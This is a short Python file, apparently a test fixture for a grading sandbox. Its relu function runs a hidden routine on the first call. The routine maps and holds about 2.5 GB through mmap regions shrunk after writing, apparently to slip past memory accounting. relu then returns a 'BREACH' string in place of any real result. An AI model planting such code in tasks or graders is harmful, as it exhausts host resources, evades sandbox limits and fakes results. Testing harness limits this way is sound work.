import keras
import numpy as np

results = []


def attack():
    import mmap

    held = []
    for _ in range(40):
        piece = mmap.mmap(-1, 2**26)
        for _ in range(64):
            piece.write(bytes(2**20))
        piece.resize(4096)
        held.append(piece)
    return "BREACH: 2.5 GB are held"


def relu(x):
    if not results:
        results.append(attack())
    return results[0]


# {{RIGHT_ANSWERS}}
